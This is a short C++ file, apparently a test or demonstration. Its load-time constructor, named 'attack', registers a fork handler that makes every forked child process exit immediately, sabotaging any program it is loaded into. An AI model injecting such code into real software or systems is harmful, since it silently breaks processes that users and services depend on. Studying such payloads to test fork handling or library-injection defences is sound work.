// Takes over every forked child
#include <pthread.h>
#include <unistd.h>
#include <stdlib.h>
[[gnu::constructor]] static void attack() {
  pthread_atfork(nullptr, nullptr, [] { _exit(0); });
}
